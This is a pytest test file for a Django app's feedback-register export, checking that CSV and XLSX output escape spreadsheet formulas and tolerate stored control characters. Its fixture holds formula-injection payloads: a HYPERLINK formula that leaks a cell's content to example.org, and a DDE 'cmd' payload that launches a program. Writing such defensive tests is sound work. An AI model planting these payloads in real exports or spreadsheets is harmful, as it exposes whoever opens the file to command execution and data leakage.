"""What the public types reaches the quality lead's spreadsheet as text: never as a live formula,
and a control character stored in a record never makes the export answer 500."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from qualipilote.registers.tests.factories import FeedbackFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://example.org/?d="&A2;"Voir la réponse")'


def export(client, organisation, file_format):
    url = reverse(
        "registers_io:export", kwargs={"org_code": organisation.code, "register": "feedback"}
    )
    response = client.get(url, {"format": file_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_feedback(organisation):
    return FeedbackFactory(
        organisation=organisation,
        received_on=dt.date(2026, 2, 16),
        theme="@SUM(1+1)*cmd|' /C calc'!A0",
        description=HYPERLINK,
        answer="-2+3",
    )


def test_a_citizens_formula_is_text_in_the_xlsx_export(
    quality_lead_client, organisation, hostile_feedback
):
    sheet = openpyxl.load_workbook(
        io.BytesIO(export(quality_lead_client, organisation, "xlsx"))
    ).active
    header, row = list(sheet.iter_rows())
    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
    assert cells["description"].value == HYPERLINK
    assert cells["description"].data_type == "s"  # "f" would be a clickable formula
    assert cells["theme"].data_type == "s"


def test_a_citizens_formula_is_escaped_in_the_csv_export(
    quality_lead_client, organisation, hostile_feedback
):
    text = export(quality_lead_client, organisation, "csv").decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert cells["description"] == "'" + HYPERLINK
    assert cells["theme"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["reponse"] == "'-2+3"
    assert cells["recu_le"] == "16/02/2026"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_stored_control_character_does_not_break_the_export(
    quality_lead_client, organisation, file_format
):
    # Stored before the forms refused control characters (or by a path that forgot to).
    FeedbackFactory(
        organisation=organisation, received_on=dt.date(2026, 2, 16), description="A\x0bB\x1bC"
    )
    content = export(quality_lead_client, organisation, file_format)
    if file_format == "csv":
        assert "A\ufffdB\ufffdC" in content.decode("utf-8-sig")
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert "A\ufffdB\ufffdC" in [cell.value for cell in sheet[2]]
